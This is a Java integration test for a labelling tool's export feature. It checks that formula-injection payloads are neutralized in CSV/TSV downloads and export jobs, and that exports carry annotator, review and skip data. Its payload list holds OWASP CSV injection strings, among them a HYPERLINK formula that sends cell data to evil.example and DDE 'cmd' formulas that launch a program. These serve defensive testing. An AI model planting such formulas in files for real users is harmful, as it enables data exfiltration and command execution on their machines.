package io.labelledger.task;

import io.labelledger.testing.ApiClient;
import io.labelledger.testing.IntegrationTest;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.http.HttpHeaders;
import tools.jackson.databind.json.JsonMapper;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Export fidelity and safety (issue 9, ADR 0030) through the real HTTP stack: CSV/TSV formula injection is
 * neutralized in the download and in export jobs unless raw values are asked for; exports carry the people, the
 * reviews and the skips.
 */
class ExportFidelityIT extends IntegrationTest {
    static final JsonMapper JSON = JsonMapper.builder().build();
    static final String NOTE_CONFIG = """
            <View><Text name="text" value="$text"/><TextArea name="note" toName="text"/></View>""";
    /** OWASP's CSV injection payloads: each starts with a character a spreadsheet reads as the start of a formula. */
    static final List<String> PAYLOADS = List.of(
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");

    @LocalServerPort
    int port;
    @Autowired
    JdbcTemplate jdbc;

    ApiClient ann;
    String project;

    @BeforeEach
    void signUp() {
        ann = ApiClient.signUp(port, "Ann");
        project = ann.createProject("Injection", NOTE_CONFIG);
    }

    @Test
    void formulasInTaskDataAndTextAreasAreNeutralizedInCsvAndTsvUnlessRawValuesAreAsked() throws IOException {
        // given tasks whose text is each payload (plus a plain one, a negative number and a data key that is a formula)
        String ndjson = PAYLOADS.stream().map(p -> JSON.writeValueAsString(Map.of("text", p)))
                                .collect(Collectors.joining("\n", "", "\n"))
                        + "{\"text\":\"plain\",\"score\":-5,\"=cmd\":\"x\"}\n";
        ann.importTasks(project, ndjson, "NDJSON", "ALL_OR_NOTHING").path("importTasks.importedCount").entity(Integer.class)
           .isEqualTo(PAYLOADS.size() + 1);
        // and an annotation whose TextArea text is a formula
        String task = firstTask();
        ann.graphql().document("mutation($i: SubmitAnnotationInput!) { submitAnnotation(input: $i) { annotation { id } errors { code } } }")
           .variable("i", Map.of("taskId", task, "result", List.of(Map.of("from_name", "note", "to_name", "text", "type", "textarea",
                   "value", Map.of("text", List.of("=1+1"))))))
           .execute().path("submitAnnotation.errors").entityList(Object.class).hasSize(0);
        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> ann.graphql()
                .document("query($id: ID!) { project(id: $id) { annotationCount } }").variable("id", project).execute()
                .path("project.annotationCount").entity(Integer.class).isEqualTo(1));

        for (String format : List.of("CSV", "TSV")) {
            // when exported as it is by default: every payload is prefixed with ' (OWASP), the rest is untouched
            List<CSVRecord> rows = parse(format, download("format=" + format));
            List<String> header = rows.getFirst().toList();
            assertThat(header).as(format).contains("'=cmd").doesNotContain("=cmd");
            int text = header.indexOf("text"), note = header.indexOf("note"), score = header.indexOf("score");
            List<String> texts = rows.subList(1, rows.size()).stream().map(r -> r.get(text)).toList();
            assertThat(texts).as(format).containsExactlyElementsOf(
                    java.util.stream.Stream.concat(PAYLOADS.stream().map(p -> "'" + p), java.util.stream.Stream.of("plain")).toList());
            assertThat(rows.get(1).get(note)).as(format).isEqualTo("'=1+1");
            assertThat(rows.getLast().get(score)).as(format).isEqualTo("-5"); // a number, not a formula: kept
            assertThat(rows.subList(1, rows.size())).as(format)
                    .allSatisfy(r -> r.toList().forEach(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+")
                            .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r")));

            // when raw values are asked for: the values as they were imported and typed
            List<CSVRecord> raw = parse(format, download("format=" + format + "&rawValues=true"));
            assertThat(raw.getFirst().toList()).as(format).contains("=cmd");
            assertThat(raw.subList(1, raw.size()).stream().map(r -> r.get(text)).toList()).as(format)
                    .containsExactlyElementsOf(java.util.stream.Stream.concat(PAYLOADS.stream(), java.util.stream.Stream.of("plain")).toList());
            assertThat(raw.get(1).get(note)).as(format).isEqualTo("=1+1");

            // and an export job writes the same files, neutralized by default and raw when asked
            assertThat(jobFile(format, null)).as(format).isEqualTo(download("format=" + format));
            assertThat(jobFile(format, true)).as(format).isEqualTo(download("format=" + format + "&rawValues=true"));
        }
        // JSON keeps every value as it is (no spreadsheet reads it)
        assertThat(download("format=JSON")).contains(JSON.writeValueAsString(PAYLOADS.getFirst()));

        // the audit log tells the raw exports from the neutralized ones: per format two raw downloads and a raw job
        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> {
            String audit = ann.post("{ auditLog(first: 50, filter: {eventType: \"ProjectExported\"}) { edges { node { payload } } } }", Map.of())
                              .toString();
            assertThat(audit.split("rawValues=true", -1)).hasSize(2 * 3 + 1);
            assertThat(audit.split("rawValues=false", -1)).hasSizeGreaterThan(2 * 3 + 1);
        });
    }

    /**
     * Issue 9: exports carry the people (completed_by {id, email}; CSV annotator_email), the review (verdict, comment,
     * reviewer) and skips (Label Studio's cancelled annotations), in the download, in a job and in a job "as of" now;
     * the emails are read at export time and are in no event.
     */
    @Test
    @SuppressWarnings("unchecked")
    void exportsCarryTheAnnotatorTheReviewAndTheSkips() throws Exception {
        ApiClient bob = ApiClient.signUpWithInvitation(port, "Bob", ann.invite("ANNOTATOR"));
        ApiClient cy = ApiClient.signUpWithInvitation(port, "Cy", ann.invite("ANNOTATOR"));
        for (ApiClient who : List.of(bob, cy)) {
            ann.addProjectMember(project, who.userId, "ANNOTATOR");
        }
        ann.importTasks(project, "{\"text\":\"one\"}\n", "NDJSON", "ALL_OR_NOTHING").path("importTasks.importedCount").entity(Integer.class).isEqualTo(1);
        String task = firstTask();
        String annotation = bob.graphql().document("mutation($i: SubmitAnnotationInput!) { submitAnnotation(input: $i) { annotation { id } errors { code } } }")
               .variable("i", Map.of("taskId", task, "result", List.of(Map.of("from_name", "note", "to_name", "text", "type", "textarea",
                       "value", Map.of("text", List.of("fine"))))))
               .execute().path("submitAnnotation.errors").entityList(Object.class).hasSize(0)
               .path("submitAnnotation.annotation.id").entity(String.class).get();
        ann.graphql().document("mutation($i: ReviewAnnotationInput!) { reviewAnnotation(input: $i) { errors { code } } }")
           .variable("i", Map.of("taskId", task, "annotationId", annotation, "decision", "ACCEPTED", "comment", "Well done"))
           .execute().path("reviewAnnotation.errors").entityList(Object.class).hasSize(0);
        cy.graphql().document("mutation($i: SkipTaskInput!) { skipTask(input: $i) { errors { code } } }")
          .variable("i", Map.of("taskId", task)).execute().path("skipTask.errors").entityList(Object.class).hasSize(0);
        String annEmail = email(ann), bobEmail = email(bob), cyEmail = email(cy);
        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> assertThat(download("format=JSON")).contains("Well done", cyEmail));

        // JSON: Label Studio's shapes
        tools.jackson.databind.JsonNode exported = JSON.readTree(download("format=JSON"));
        tools.jackson.databind.JsonNode annotations = exported.get(0).get("annotations");
        assertThat(annotations).hasSize(2);
        tools.jackson.databind.JsonNode bobs = annotations.get(0);
        assertThat(JSON.convertValue(bobs.get("completed_by"), Map.class)).isEqualTo(Map.of("id", bob.userId, "email", bobEmail));
        assertThat(bobs.get("was_cancelled").asBoolean()).isFalse();
        tools.jackson.databind.JsonNode review = bobs.get("reviews").get(0);
        assertThat(review.get("accepted").asBoolean()).isTrue();
        assertThat(review.get("decision").asString()).isEqualTo("ACCEPTED");
        assertThat(review.get("comment").asString()).isEqualTo("Well done");
        assertThat(JSON.convertValue(review.get("created_by"), Map.class)).isEqualTo(Map.of("id", ann.userId, "email", annEmail));
        tools.jackson.databind.JsonNode skip = annotations.get(1);
        assertThat(skip.get("was_cancelled").asBoolean()).isTrue();
        assertThat(skip.get("result")).isEmpty();
        assertThat(JSON.convertValue(skip.get("completed_by"), Map.class)).isEqualTo(Map.of("id", cy.userId, "email", cyEmail));

        // CSV: the annotator's email and the review in columns
        List<CSVRecord> rows = parse("CSV", download("format=CSV"));
        List<String> header = rows.getFirst().toList();
        CSVRecord row = rows.get(1);
        assertThat(row.get(header.indexOf("annotator"))).isEqualTo(bob.userId);
        assertThat(row.get(header.indexOf("annotator_email"))).isEqualTo(bobEmail);
        assertThat(row.get(header.indexOf("review"))).isEqualTo("ACCEPTED");
        assertThat(row.get(header.indexOf("review_comment"))).isEqualTo("Well done");
        assertThat(row.get(header.indexOf("reviewer_email"))).isEqualTo(annEmail);

        // a job writes the same; a job as of now folds the same people, review and skip from the event store
        assertThat(jobFile("JSON", null)).isEqualTo(download("format=JSON"));
        tools.jackson.databind.JsonNode asOf = JSON.readTree(jobFile("JSON", null, Map.of("asOf", java.time.Instant.now().toString())));
        assertThat(asOf.get(0).get("annotations").findValuesAsString("email")).containsExactly(bobEmail, annEmail, cyEmail);
        assertThat(asOf.get(0).get("annotations").get(1).get("was_cancelled").asBoolean()).isTrue();

        // the emails come from the accounts: no event holds them
        assertThat(jdbc.queryForObject("SELECT count(*) FROM domain_event_entry WHERE position(? in convert_from(payload, 'UTF8')) > 0",
                Long.class, bobEmail)).isZero();
    }

    private String email(ApiClient who) {
        return who.graphql().document("{ me { email } }").execute().path("me.email").entity(String.class).get();
    }

    private String firstTask() {
        return ann.graphql().document("query($p: ID!) { project(id: $p) { tasks(first: 1, orderBy: {field: NUMBER, direction: ASC}) { edges { node { id } } } } }")
                  .variable("p", project).execute().path("project.tasks.edges[0].node.id").entity(String.class).get();
    }

    private String download(String query) {
        return ann.export(project, query).expectStatus().isOk().expectBody(String.class).returnResult().getResponseBody();
    }

    private static List<CSVRecord> parse(String format, String text) throws IOException {
        CSVFormat csv = "CSV".equals(format) ? CSVFormat.RFC4180 : CSVFormat.RFC4180.builder().setDelimiter('\t').get();
        return csv.parse(new StringReader(text)).getRecords();
    }

    private String jobFile(String format, Boolean rawValues) {
        return jobFile(format, rawValues, Map.of());
    }

    /** Creates an export job (rawValues left out when null), waits for it and downloads its file. */
    @SuppressWarnings("unchecked")
    private String jobFile(String format, Boolean rawValues, Map<String, Object> filters) {
        Map<String, Object> input = new HashMap<>(Map.of("projectId", project, "format", format, "filters", filters));
        if (rawValues != null) input.put("rawValues", rawValues);
        Map<String, Object> created = (Map<String, Object>) ((Map<String, Object>) ann.post(
                "mutation($i: CreateExportInput!) { createExport(input: $i) { job { id rawValues } errors { code } } }",
                Map.of("i", input)).get("data")).get("createExport");
        assertThat(created.get("errors")).isEqualTo(List.of());
        Map<String, Object> job = (Map<String, Object>) created.get("job");
        assertThat(job.get("rawValues")).isEqualTo(Boolean.TRUE.equals(rawValues));
        String id = (String) job.get("id");
        Map<String, Object> done = await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(200)).until(() ->
                (Map<String, Object>) ((Map<String, Object>) ann.post("query($id: ID!) { exportJob(id: $id) { state downloadUrl } }",
                        Map.of("id", id)).get("data")).get("exportJob"),
                j -> j != null && List.of("COMPLETED", "FAILED").contains(j.get("state")));
        assertThat(done.get("state")).isEqualTo("COMPLETED");
        byte[] file = ApiClient.web(port).get().uri((String) done.get("downloadUrl")).header(HttpHeaders.COOKIE, ann.cookie).exchange()
                               .expectStatus().isOk().expectBody(byte[].class).returnResult().getResponseBody();
        return new String(file, StandardCharsets.UTF_8);
    }
}
